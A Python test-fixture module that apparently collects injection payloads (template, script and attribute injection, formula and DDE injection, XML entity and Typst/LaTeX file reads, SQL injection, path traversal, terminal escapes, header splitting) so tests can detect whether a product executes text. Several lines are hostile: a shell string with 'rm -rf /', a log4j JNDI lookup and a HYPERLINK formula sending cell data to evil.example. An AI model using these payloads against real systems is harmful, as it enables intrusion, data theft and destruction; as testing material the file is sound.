"""Texts that would do something if any part of the product took them for more than texts.

Whatever runs leaves a trace that the tests look for: `PRODUCT` where a template or a formula is worked out,
`window.hit` where a script runs in a page.
"""

import re

PRODUCT = "83810205"
"""12345 × 6789; no payload holds it, so it stands only where one was worked out."""

FORMULA = re.compile(r"(?:^|[;\t\r\n])\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
"""Where a spreadsheet begins a formula: at the start of a cell, or behind what may part cells."""

TEMPLATES = {
    "jinja expression": "{{12345*6789}}",
    "jinja statement": "{% x",
    "jinja loop": "{% for x in range(9) %}{{12345*6789}}{% endfor %}",
    "jinja comment": "{# 12345 #}",
    "jinja classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "dollar expression": "${12345*6789}",
    "hash expression": "#{12345*6789}",
    "embedded ruby": "<%= 12345*6789 %>",
    "razor": "@(12345*6789)",
    "format field": "{0.__class__}",
    "format name": "{texts} {name!r:>99}",
    "printf": "%s%s%n%x %(name)s",
    "shell": "$(echo 12345*6789) `id` ; rm -rf / | cat && true",
    "log4j": "${jndi:ldap://evil.example/a}",
}
SCRIPTS = {
    "script": "<script>window.hit=1</script>",
    "end of script": "</script><script>window.hit=2</script>",
    "end of style": "</style><script>window.hit=3</script>",
    "end of title": "</title><img src=x onerror=window.hit=4>",
    "end of textarea": "</textarea><svg onload=window.hit=5>",
    "image": "<img src=x onerror=window.hit=6>",
    "image elsewhere": '<img src="https://evil.example/x.png">',
    "drawing": "<svg onload=window.hit=7>",
    "drawing script": "<svg><script>window.hit=8</script></svg>",
    "frame": '<iframe srcdoc="<script>parent.hit=9</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "link in html": '<a href="javascript:window.hit=10">bấm</a>',
    "style": "<style>*{display:none}</style>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><button>gửi</button></form>',
    "attribute break": '" onmouseover=window.hit=11 x="',
    "attribute break, single": "' onfocus=window.hit=12 autofocus x='",
    "attribute break, closing": '"><img src=x onerror=window.hit=13>',
    "comment end": "--><img src=x onerror=window.hit=14><!--",
    "entity": "&lt;script&gt;window.hit=15&lt;/script&gt; &#60;b&#62; &amp;",
    "script address": "javascript:window.hit=16",
    "data address": "data:text/html,<script>window.hit=17</script>",
    "json break": '"}]};window.hit=18;//',
    "script break": "';window.hit=19;//",
    "template literal": "`;window.hit=20;`${window.hit=21}",
    "line separator": "a\u2028window.hit=22\u2029b",
    "nested": "<scr<script>ipt>window.hit=23</scr</script>ipt>",
    "event in bold": '<b onclick="window.hit=24">đậm</b>',
    "prototype": '{"__proto__":{"hit":1}}',
}
MARKDOWN = {
    "icon directive": ":material/warning:",
    "colour directive": ":red[đỏ]",
    "badge directive": ":blue-badge[huy hiệu]",
    "markdown link": "[bấm](https://evil.example/)",
    "markdown script link": "[bấm](javascript:window.hit=25)",
    "markdown image": "![ảnh](https://evil.example/x.png)",
    "markdown code": "`mã` ```\nkhối\n```",
    "markdown heading": "# Đầu mục",
    "markdown table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "bare address": "https://evil.example/x",
    "math": "$12345 \\times 6789$ $$x$$",
    "emphasis": "*nghiêng* **đậm** _gạch_ ~~bỏ~~",
    "emoji": ":smile: :streamlit:",
}
PRINT = {
    "typst file": '#read("/etc/passwd")',
    "typst import": '#import "/etc/passwd": *',
    "typst call": "#panic() #str(12345*6789)",
    "typst marks": "$ @tham *đậm* = Đầu mục <nhãn>",
    "latex": "\\input{/etc/passwd} \\write18{id}",
    "word break": "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>",
    "slide break": "</a:t></a:r><a:r><a:t>",
    "section end": "]]><x>12345*6789</x><![CDATA[",
    "xml entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "escaped sign of a workbook": "_x0041_ _x000D_",
}
FORMULAS = {
    "command": "=cmd|'/C calc'!A0",
    "product": "=12345*6789",
    "product, plus": "+12345*6789",
    "product, minus": "-12345*6789",
    "product, at": "@SUM(12345*6789)",
    "link": '=HYPERLINK("https://evil.example/?"&A1,"bấm")',
    "import": '=IMPORTXML("https://evil.example/","//a")',
    "behind a tab": "\t=12345*6789",
    "behind a return": "\r=12345*6789",
    "behind a line end": "\n=12345*6789",
    "behind blanks": "  =12345*6789",
    "behind a semicolon": "a;=12345*6789",
    "behind a line within": "a\n=12345*6789",
    "behind a quote": '";=12345*6789;"',
    "wide sign": "\uff1d12345*6789",
    "dde": 'DDE("cmd";"/C calc";"1")',
}
SIGNS = {
    "right to left": "an\u202ecod.exe",
    "isolates": "\u2066a\u2069 \u200fb",
    "zero width": "vô\u200bhình\u200d\ufeff",
    "nothing": "a\x00b",
    "terminal colours": "\x1b[31mđỏ\x1b[0m",
    "terminal title": "\x1b]0;hit\x07",
    "terminal, one byte": "\x9b31m",
    "backspaces": "an toàn\x08\x08\x08",
    "long word": "x" * 3_000,
    "many marks": "a" + "\u0301" * 200,
    "quotes": "'\"`«»“”\\",
    "signs beyond": "\U0001d54f\U0001f3f4\U000e0067",
    "sql": "'; DROP TABLE figures; --",
    "sql always": "1' OR '1'='1",
    "path": "../../../../etc/passwd",
    "path, windows": "..\\..\\windows\\win.ini",
    "path, encoded": "..%2f..%2fetc%2fpasswd",
    "null text": "null",
    "not a number": "NaN",
    "line ends for headers": "a\r\nSet-Cookie: hit=1",
}
PAYLOADS = TEMPLATES | SCRIPTS | MARKDOWN | PRINT | FORMULAS | SIGNS
